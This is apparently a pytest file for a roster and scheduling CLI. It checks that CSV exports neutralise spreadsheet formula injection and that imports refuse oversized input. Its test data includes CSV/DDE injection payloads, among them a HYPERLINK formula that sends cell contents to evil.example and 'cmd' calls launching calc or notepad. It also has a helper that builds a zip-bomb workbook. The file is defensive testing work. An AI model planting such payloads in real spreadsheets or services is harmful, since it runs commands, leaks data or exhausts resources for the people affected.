"""Hostile spreadsheets, both ways: what the project writes must never run in a spreadsheet,
and what it reads must be bounded and refused with one short sentence.

The inputs are data in this file (names, cells, files made here), so that others can add to
them: add a name to ``FORMULA_NAMES`` and it goes through every CSV the project writes.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import select, update
from test_sheets import FERIA, SITI, ZUKIPLI, Env, make_env

from rules.calendar import WITA
from scheduler.bot.records import hash_code
from scheduler.cli.main import cli
from scheduler.config import load_config
from scheduler.reports import digest
from scheduler.store import models

# Names as OCR and sheets bring them (OWASP's formula starts, and ones already marked).
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already marked once: must survive a round trip too
    "''+1",
    "-Ahmad Fauzi",  # a real-looking name that starts with a dash
    "=cmd|' /C notepad'!'A1'",
]
FORMULA_START = re.compile(r"[=+\-@\t\r]")


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"):
        yield from row


def assert_inert(text: str) -> None:
    """No cell of the CSV begins with what a spreadsheet runs."""
    bad = [cell for cell in cells(text) if FORMULA_START.match(cell)]
    assert not bad, bad


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, database_url: str) -> Iterator[Env]:
    made = make_env(tmp_path, monkeypatch, database_url)
    yield made
    made.db.engine.dispose()


def rename(env: Env, names: dict[str, str], **also: str) -> None:
    with env.db.write() as session:
        for key, name in names.items():
            values = {"name": name, **also} if key == FERIA else {"name": name}
            session.execute(
                update(models.Employee).where(models.Employee.key == key).values(values)
            )
        session.execute(update(models.Unit).values(name="=1+" + models.Unit.name))


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_roster_export_neutralises_and_import_restores(env: Env, name: str) -> None:
    rename(env, {FERIA: name, SITI: "@" + name}, telegram_chat_id="-1001234567890")
    before = env.dump()
    for delimiter in (",", ";"):
        done = env.run("roster", "export", "--delimiter", delimiter, "r.csv")
        assert done.exit_code == 0, done.output
        text = (env.path / "r.csv").read_bytes().decode("utf-8-sig")
        assert_inert(text.replace(",", ";"))
        back = env.run("roster", "import", "r.csv")
        assert back.exit_code == 0, back.output
        if name == name.strip():  # import strips the blanks around a cell, tabs included
            assert "0 updated" in back.output and "0 created" in back.output
            assert env.dump() == before


def test_link_codes_csv_is_inert(env: Env) -> None:
    rename(env, dict(zip([FERIA, SITI, ZUKIPLI], FORMULA_NAMES, strict=False)))
    done = env.run("link", "--all", "--out", "kode.csv")
    assert done.exit_code == 0, done.output
    assert_inert((env.path / "kode.csv").read_bytes().decode("utf-8-sig"))


def test_digest_csv_and_the_mail_attachment_are_inert(env: Env) -> None:
    rename(env, dict(zip([FERIA, SITI, ZUKIPLI], FORMULA_NAMES, strict=False)))
    shown = env.run("digest", "--format", "csv", "--preview", "--as-of", "2025-03-03")
    assert shown.exit_code == 0, shown.output
    assert FORMULA_NAMES[0] in "".join(cells(shown.stdout)).replace("'=HYP", "=HYP")
    assert_inert(shown.stdout)
    config = load_config(str(env.config))
    now = datetime(2025, 3, 3, 7, 30, tzinfo=WITA)
    mails = digest.weekly(config, env.db, now)
    assert mails
    for mail in mails:
        assert_inert(mail.csv.decode("utf-8-sig"))


# --------------------------------------------------------------------------- link --out


def usable(env: Env, codes: list[str]) -> bool:
    """Every code would still link a chat, as the bot judges it (by its stored hash)."""
    now = datetime.now(WITA)
    with env.db.read() as session:
        rows = {
            row.code_hash: row
            for row in session.scalars(
                select(models.LinkCode).where(
                    models.LinkCode.code_hash.in_([hash_code(code) for code in codes])
                )
            )
        }
    return len(rows) == len(codes) and all(
        row.used_at is None and row.expires_at > now for row in rows.values()
    )


BAD_OUT = {
    "a missing folder": ("missing/kode.csv", "No such file or directory"),
    "a file as folder": ("plain.txt/kode.csv", "Not a directory"),
    "an unwritable folder": ("/proc/kode.xlsx", "cannot be written"),
    "a folder as the file": (".", "is a directory"),
    "a PDF": ("kode.pdf", "use a .csv or .xlsx file"),
}


@pytest.mark.parametrize("case", list(BAD_OUT))
def test_a_list_that_cannot_be_written_changes_no_code(env: Env, case: str) -> None:
    first = env.run("link", "--all", "--out", "kode.csv")
    assert first.exit_code == 0, first.output
    codes = [row["code"] for row in csv.DictReader(io.StringIO(
        (env.path / "kode.csv").read_bytes().decode("utf-8-sig")), delimiter=";")]  # fmt: skip
    assert len(codes) == 4 and usable(env, codes)
    (env.path / "plain.txt").write_text("x")
    listing = sorted(p.name for p in env.path.iterdir())
    before = env.dump()
    out, words = BAD_OUT[case]
    result = CliRunner().invoke(cli, ["--config", str(env.config), "link", "--all", "--out", out])
    assert result.exit_code != 0 and isinstance(result.exception, SystemExit), result.output
    assert words in result.output and "Traceback" not in result.output
    assert usable(env, codes)
    assert env.dump() == before
    assert sorted(p.name for p in env.path.iterdir()) == listing  # nothing staged is left


# --------------------------------------------------------------------------- bounded input

ROSTER_HEADER = "key,nip,name,unit,superior,roles,rules,email\n"
MiB = 2**20


def xlsx_bomb(path: Path, unpacked: int) -> Path:
    """A workbook of one small sheet whose XML goes on with ``unpacked`` bytes of blanks: a
    few hundred kilobytes on disk."""
    book = openpyxl.Workbook()
    book.active.append(ROSTER_HEADER.strip().split(","))  # type: ignore[union-attr]
    book.save(path)
    with zipfile.ZipFile(path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    sheet = members.pop("xl/worksheets/sheet1.xml")
    head, tail = sheet.split(b"</worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as handle:
            handle.write(head)
            blanks = b" " * MiB
            for _ in range(unpacked // MiB):
                handle.write(blanks)
            handle.write(b"</worksheet>" + tail)
    return path


def wide_xlsx(path: Path) -> Path:
    """A sheet whose second row has a cell in column 5000 (and a dimension that says so)."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(ROSTER_HEADER.strip().split(","))
    sheet.cell(row=2, column=1, value="TMP-x")
    sheet.cell(row=2, column=5000, value="far away")
    book.save(path)
    return path


def huge_rows(size: int) -> list[list[str]]:
    """Twenty rows of ``size``-character cells: a name, a unit, a role and an e-mail."""
    rows = [ROSTER_HEADER.strip().split(",")]
    for n in range(20):
        big = f"{n:02d}" + "A" * size
        rows.append([f"TMP-big{n}", "", big, big, "", big, "SKP", big + "@x.id"])
    return rows


def huge_cells(path: Path, size: int) -> Path:
    """A workbook holds at most 32,767 characters a cell; Python's CSV reader 131,072."""
    if path.suffix == ".csv":
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(huge_rows(size))
        return path
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in huge_rows(size):
        sheet.append(row)
    book.save(path)
    return path


def many_rows_csv(path: Path) -> Path:
    rows = "".join(f"TMP-r{n},,Nama {n},Unit,,,SKP,\n" for n in range(200_001))
    path.write_text(ROSTER_HEADER + rows, encoding="utf-8")
    return path


def oversize_csv(path: Path) -> Path:
    line = "TMP-a,,Nama,Unit,,,SKP,a@b.id\n"
    path.write_text(ROSTER_HEADER + line * (33 * MiB // len(line)), encoding="utf-8")
    return path


BOUNDED = {  # how a file is made, and the sentence that refuses it
    "a zip bomb": (lambda p: xlsx_bomb(p / "bomb.xlsx", 300 * MiB), "would unpack to"),
    "a 33 MB CSV": (lambda p: oversize_csv(p / "big.csv"), "more than the 33554432 bytes"),
    "200,001 rows": (lambda p: many_rows_csv(p / "rows.csv"), "has more than 200000 rows"),
    "column 5000": (lambda p: wide_xlsx(p / "wide.xlsx"), "wide.xlsx has more than 64 columns"),
}


@pytest.mark.parametrize("case", list(BOUNDED))
def test_a_sheet_beyond_the_limits_is_refused_whole(env: Env, case: str) -> None:
    make, words = BOUNDED[case]
    path = make(env.path)
    before = env.dump()
    for command in ("roster", "submissions"):
        result = env.run(command, "import", "--skip-bad", path.name)
        assert result.exit_code == 1, result.output
        assert words in result.output and len(result.output) < 400, result.output
    assert env.dump() == before


@pytest.mark.parametrize(("name", "size"), [("huge.xlsx", 30_000), ("huge.csv", 100_000)])
def test_huge_cells_give_one_short_error_each_and_write_nothing(
    env: Env, name: str, size: int
) -> None:
    path = huge_cells(env.path / name, size)
    before = env.dump()
    result = env.run("roster", "import", path.name)
    assert result.exit_code == 1
    lines = result.output.splitlines()
    assert len(result.output) < 20 * 4 * 120, len(result.output)
    assert f"row 2: name: {size + 2} characters, at most 200: “00AAAA" in result.output
    assert f"row 21: unit: {size + 2} characters, at most 200" in result.output
    assert f"email: {size + 7} characters, at most 254" in result.output
    assert f"roles: {size + 2} characters, at most 100" in result.output
    assert len(lines) == 20 * 4 + 1  # one line per cell, and the refusal
    assert env.dump() == before


def test_a_cell_beyond_the_csv_readers_own_cap_is_one_sentence(env: Env) -> None:
    """Python's csv module refuses a field over 131,072 characters with an English error of
    its own; the admin reads the same kind of sentence as for any long cell."""
    path = huge_cells(env.path / "giant.csv", 200_000)
    before = env.dump()
    for language, words in (("id", "baris 2: sebuah sel jauh lebih panjang"), ("en", "row 2: a")):
        result = env.run("--lang", language, "roster", "import", path.name)
        assert result.exit_code == 1 and words in result.output, result.output
        assert "field limit" not in result.output and len(result.output) < 300, result.output
    assert env.dump() == before


# --------------------------------------------------------------------------- field lengths

# One value a character longer than its column holds (the model's String(n)), per column.
OVERLONG_ROSTER = {
    "name": ("N" * 201, 200),
    "position": ("P" * 301, 300),
    "unit": ("U" * 201, 200),
    "email": ("e" * 250 + "@x.id", 254),
    "name ": ("N" * 5000, 200),  # the 5,000-character name of the report
}


@pytest.mark.parametrize("column", list(OVERLONG_ROSTER))
def test_an_overlong_roster_cell_is_refused_with_its_row(env: Env, column: str) -> None:
    value, limit = OVERLONG_ROSTER[column]
    column = column.strip()
    rows = [[*ROSTER_HEADER.strip().split(","), "position"]]
    rows.append(["TMP-baru", "", "Nama Baru", "Sekretariat", "", "", "SKP", "", ""])
    rows[1][rows[0].index(column)] = value
    with (env.path / "long.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    before = env.dump()
    result = env.run("roster", "import", "long.csv")
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.output
    expected = f"row 2: {column}: {len(value)} characters, at most {limit}: “{value[:30]}…”"
    assert expected in result.output and len(result.output) < 300, result.output
    assert env.dump() == before


def test_overlong_evidence_in_the_submissions_sheet_is_refused(env: Env) -> None:
    """Evidence is unbounded text in the database; a cell still holds at most 2,000."""
    path = env.path / "subs.csv"
    path.write_text(
        f"nip,rule,period,submitted_at,evidence\n{SITI},SKP,2024,2025-02-10,{'E' * 2001}\n"
    )
    before = env.dump()
    result = env.run("submissions", "import", path.name)
    assert result.exit_code == 1
    assert "row 2: evidence: 2001 characters, at most 2000: “EEE" in result.output
    assert env.dump() == before


def test_a_bad_cell_is_quoted_short_whatever_the_check(env: Env) -> None:
    """Cells within the sheet's limits but wrong (a 1,900-digit NIP, a date of 1,900
    characters): every error line stays short."""
    long = "9" * 1900
    roster = env.path / "r.csv"
    roster.write_text(ROSTER_HEADER + f"{long},{long},Nama,Unit,{long},,SKP,\n")
    subs = env.path / "s.csv"
    subs.write_text(f"nip,rule,period,submitted_at\n{long},SKP,2024,{'x' * 1900}\n")
    before = env.dump()
    for command, path in (("roster", roster), ("submissions", subs)):
        result = env.run(command, "import", path.name)
        assert result.exit_code == 1, result.output
        assert max(len(line) for line in result.output.splitlines()) < 200, result.output
    assert env.dump() == before
